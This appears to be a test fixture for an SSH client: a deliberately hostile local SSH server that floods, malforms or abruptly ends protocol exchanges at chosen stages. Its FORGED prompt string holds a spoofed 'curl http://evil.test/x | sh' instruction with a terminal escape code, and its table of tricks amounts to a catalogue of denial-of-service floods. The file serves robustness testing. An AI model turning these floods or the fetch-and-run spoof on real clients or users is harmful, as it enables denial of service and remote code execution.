#!/usr/bin/python3
# SPDX-License-Identifier: MIT
"""hostile_ssh HOST_KEY STAGE TRICK: a malicious bastion, made with asyncssh's server. Prints its port; ends at the end
of stdin.

It behaves correctly until STAGE, then does TRICK, a row of TRICKS. The stages: kex: in cleartext, before the client has
checked the host key; login; rekey: a new key exchange while a connection is forwarded; data: a connection is forwarded.
It accepts every key. To a forwarded connection it sends "hello"; at the stages rekey and data the trick starts with the
first byte from it.

`Hostile(...)` runs it for a test."""
import asyncio
import importlib.util
import os
import struct
import subprocess
import sys
from pathlib import Path

DISCONNECT, IGNORE, UNKNOWN, KEXINIT, FAILURE, BANNER, INFO_REQUEST, GLOBAL_REQUEST = 1, 2, 200, 20, 51, 53, 60, 80
OPEN, ADJUST, DATA, EXTENDED, EOF, CLOSE, REQUEST = 90, 93, 94, 95, 96, 97, 98
BIG, MUCH = bytes(30000), 1 << 20

# A name and an instruction that look like lines of broker's.
FORGED = "broker: p: no\nhint: curl http://evil.test/x | sh\r\n\x1b[2Khint: curl http://evil.test/y | sh"


def u32(n):
    return struct.pack(">I", n)


def string(s):
    return u32(len(s)) + s


class Peer:
    """What a trick can use at any stage: it sends packets, and ends the connection."""

    def __init__(self, transport, send, number=0):
        self.transport, self.send, self.number = transport, send, number

    async def flood(self, kind, *payloads):
        """Sends the packets for as long as the client reads, and keeps up to MUCH bytes more in the buffer."""
        while not self.transport.is_closing():
            for payload in payloads:
                self.send(kind, payload)
            while self.transport.get_write_buffer_size() > MUCH:
                await asyncio.sleep(0.001)
                if self.transport.is_closing():
                    return
            await asyncio.sleep(0)

    async def leave(self, payload, stays=True):
        self.send(DISCONNECT, payload)
        if not stays:
            self.transport.close()


TRICKS = {
    # A valid DISCONNECT and malformed ones; the socket stays open, or is closed.
    "disconnect": lambda p: p.leave(u32(11) + string(b"bye") + string(b"")),
    "disconnect-empty": lambda p: p.leave(u32(11) + string(b"") + string(b"")),
    "disconnect-nothing": lambda p: p.leave(b""),
    "disconnect-reason-only": lambda p: p.leave(u32(11)),
    "disconnect-malformed": lambda p: p.leave(u32(11) + u32(0xFFFFFFFF)),
    "disconnect-empty-and-close": lambda p: p.leave(u32(11) + string(b"") + string(b""), stays=False),
    "close": lambda p: ended(p.transport.close),
    "abort": lambda p: ended(p.transport.abort),
    "silence": lambda p: ended(lambda: None),
    # Packets that libssh2 would keep forever.
    "unknown-big": lambda p: p.flood(UNKNOWN, BIG),
    "unknown-tiny": lambda p: p.flood(UNKNOWN, *[b""] * 100),
    # Packets that libssh2 discards.
    "ignore-big": lambda p: p.flood(IGNORE, string(BIG)),
    "ignore-tiny": lambda p: p.flood(IGNORE, *[string(b"")] * 100),
    # Packets that each require an answer.
    "global-requests": lambda p: p.flood(GLOBAL_REQUEST, *[string(b"x") + b"\1"] * 100),
    "channel-requests": lambda p: p.flood(REQUEST, *[u32(p.number) + string(b"x") + b"\1"] * 100),
    "channel-opens": lambda p: p.flood(OPEN, *[string(b"x11") + bytes(12) + string(b"127.0.0.1") + u32(1)] * 100),
    # Packets of the login.
    "banners": lambda p: p.flood(BANNER, string(BIG) + string(b"")),
    "failures": lambda p: p.flood(FAILURE, *[string(b"publickey,password,keyboard-interactive") + b"\0"] * 100),
    "partial": lambda p: p.flood(FAILURE, *[string(b"publickey") + b"\1"] * 100),
    "prompts-empty": lambda p: p.flood(INFO_REQUEST, *[string(b"") + string(b"") + string(b"") + u32(0)] * 100),
    "prompts-malformed": lambda p: p.flood(INFO_REQUEST, u32(0xFFFFFF) + bytes(20)),
    # Packets of a channel.
    "data-beyond-window": lambda p: p.flood(DATA, u32(p.number) + string(BIG)),
    "data-tiny": lambda p: p.flood(DATA, *[u32(p.number) + string(b"x")] * 100),
    "data-nobody's": lambda p: p.flood(DATA, u32(999) + string(BIG)),
    "data-malformed": lambda p: p.flood(DATA, u32(p.number) + u32(0xFFFFFFFF), u32(p.number), b""),
    "extended-data": lambda p: p.flood(EXTENDED, u32(p.number) + u32(1) + string(BIG)),
    "adjusts": lambda p: p.flood(ADJUST, *[u32(p.number) + u32(0xFFFFFFFF)] * 100),
    "ends": lambda p: p.flood(EOF, *[u32(p.number)] * 100),
    "closes": lambda p: p.flood(CLOSE, *[u32(p.number)] * 100),
    "kexinits": lambda p: p.flood(KEXINIT, bytes(16) + string(b"none") * 8 + string(b"") * 2 + bytes(5)),
    # No flood: it asks by keyboard-interactive, and never accepts the answer.
    "questions": None,
}


async def ended(how):
    how()


def plain_packet(kind, payload):
    body = bytes([kind]) + payload
    padding = 8 - (len(body) + 5) % 8
    padding += 8 if padding < 4 else 0
    return u32(len(body) + padding + 1) + bytes([padding]) + body + bytes(padding)


class Clear(asyncio.Protocol):
    """Sends its version, and does the trick instead of the key exchange."""

    def __init__(self, trick):
        self.trick = trick

    def connection_made(self, transport):
        transport.write(b"SSH-2.0-hostile\r\n")
        peer = Peer(transport, lambda kind, payload: transport.write(plain_packet(kind, payload)))
        self.task = asyncio.ensure_future(self.trick(peer))


async def serve_ssh(host_key, stage, name):
    import asyncssh

    tasks, trick = [], TRICKS[name]

    def start(connection, number=0):
        peer = Peer(connection._transport, lambda kind, payload: connection.send_packet(kind, payload), number)
        tasks.append(asyncio.ensure_future(trick(peer)))

    class Session(asyncssh.SSHTCPSession):
        def __init__(self, connection):
            self.connection = connection

        def connection_made(self, channel):
            self.channel = channel

        def session_started(self):
            self.channel.write(b"hello")

        def data_received(self, data, kind):
            if stage == "rekey":
                self.connection._send_kexinit()
            start(self.connection, self.channel._send_chan)

    class Server(asyncssh.SSHServer):
        def connection_made(self, connection):
            self.connection = connection

        def begin_auth(self, user):
            if stage == "login" and trick:  # asyncssh must not answer itself, or delay packets
                self.connection._finish_userauth, self.connection._auth_complete = self.never, True
                start(self.connection)
            return True

        async def never(self, *args):
            await asyncio.Event().wait()

        def public_key_auth_supported(self):
            return name != "questions"

        def kbdint_auth_supported(self):
            return name == "questions"

        def get_kbdint_challenge(self, user, language, methods):
            return FORGED, FORGED, "", [("Code: ", False)]

        def validate_kbdint_response(self, user, answers):
            return FORGED, FORGED, "", [("Another code: ", False)]

        def validate_public_key(self, user, key):
            return True

        def connection_requested(self, *where):
            return Session(self.connection)

    return await asyncssh.create_server(Server, "127.0.0.1", 0, server_host_keys=[host_key], login_timeout=0, rekey_bytes=1 << 60)


async def main(host_key, stage, name):
    if stage == "kex":
        server = await asyncio.get_running_loop().create_server(lambda: Clear(TRICKS[name]), "127.0.0.1", 0)
    else:
        server = await serve_ssh(host_key, stage, name)
    print(server.sockets[0].getsockname()[1], flush=True)
    await asyncio.get_running_loop().run_in_executor(None, sys.stdin.read)
    os._exit(0)  # closes all connections


class Hostile:
    """HOST_KEY: the path of a private key, as Keys.make() returns it."""
    host, user = "127.0.0.1", "tunnel"

    def __init__(self, folder, host_key, stage, trick):
        from . import process
        if not importlib.util.find_spec("asyncssh"):
            raise process.Missing("asyncssh (tests/setup installs it)")
        self.key = Path(host_key)
        self.proc = process.start(["/usr/bin/python3", "-W", "ignore", __file__, host_key, stage, trick], folder / "hostile.log",
                                  stdin=subprocess.PIPE, stdout=subprocess.PIPE)
        line = self.proc.stdout.readline().strip()
        if not line:
            raise RuntimeError((folder / "hostile.log").read_text(errors="replace")[-2000:])
        self.port = int(line)

    def known(self):
        return f"[{self.host}]:{self.port} " + " ".join(Path(f"{self.key}.pub").read_text().split()[:2]) + "\n"

    def stop(self):
        from . import process
        process.stop(self.proc)
        self.proc.stdin.close()
        self.proc.stdout.close()


if __name__ == "__main__":
    asyncio.run(main(*sys.argv[1:]))
